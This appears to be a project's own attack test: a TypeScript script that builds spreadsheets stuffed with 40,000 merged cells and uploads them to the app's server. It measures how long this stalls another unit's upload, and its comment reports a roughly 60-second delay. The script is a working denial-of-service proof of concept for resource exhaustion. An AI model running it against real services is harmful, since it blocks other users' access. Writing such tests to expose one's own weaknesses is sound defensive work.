/**
 * Against a running server: unit A sends three files of 40,000 two-cell merges (147 kB each,
 * inside every documented limit), then unit B sends its blank table. Prints how long B waited and
 * what each got. Seen: A's files 422 after 60 s each (the reader's time limit, both readers at
 * full CPU), B's 200 after 59 s.
 *
 *   npx tsx test/attack/upload-delay.ts http://127.0.0.1:3931 TOKEN_OF_A TOKEN_OF_B
 */
import JSZip from "jszip";
import { layoutPlan } from "../../src/core/layout/plan";
import { templates } from "../../src/templates";
import { columnLetters } from "../../src/xlsx/range-scan";
import { writeXlsx } from "../../src/xlsx/write";

const SHEET = "xl/worksheets/sheet1.xml";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

async function files(): Promise<{ blank: Buffer; merges: Buffer }> {
  const blank = await writeXlsx(
    layoutPlan(templates().get("stat-3")!, { period: "2021-07", tier: "public.g2" })
  );
  const zip = await JSZip.loadAsync(blank);
  const cells: string[] = [];
  for (let r = 21; r + 1 < 5000 && cells.length < 40_000; r += 2)
    for (let c = 1; c <= 17 && cells.length < 40_000; c++)
      cells.push(`<mergeCell ref="${columnLetters(c)}${r}:${columnLetters(c)}${r + 1}"/>`);
  const xml = (await zip.file(SHEET)!.async("string"))
    .replace("</sheetData>", '<row r="5000"><c r="Q5000"/></row></sheetData>')
    .replace(
      /<mergeCells count="(\d+)">/,
      (_m, k: string) => `<mergeCells count="${Number(k) + cells.length}">${cells.join("")}`
    );
  zip.file(SHEET, xml);
  return { blank, merges: await zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" }) };
}

async function upload(base: string, token: string, file: Buffer, started: number): Promise<string> {
  const r = await fetch(`${base}/api/v1/uploads?template=stat-3&period=2021-07`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": XLSX },
    body: new Uint8Array(file),
  });
  const body = await r.text();
  return `${r.status} after ${Date.now() - started} ms: ${body.slice(0, 80)}`;
}

async function main(): Promise<void> {
  const [base, a, b] = process.argv.slice(2);
  if (!base || !a || !b) throw new Error("usage: upload-delay.ts BASE_URL TOKEN_A TOKEN_B");
  const { blank, merges } = await files();
  const t0 = Date.now();
  const mine = [1, 2, 3].map(() => upload(base, a, merges, t0));
  await new Promise((r) => setTimeout(r, 2000));
  const t1 = Date.now();
  console.log("B:", await upload(base, b, blank, t1));
  for (const m of mine) console.log("A:", await m);
}

void main();
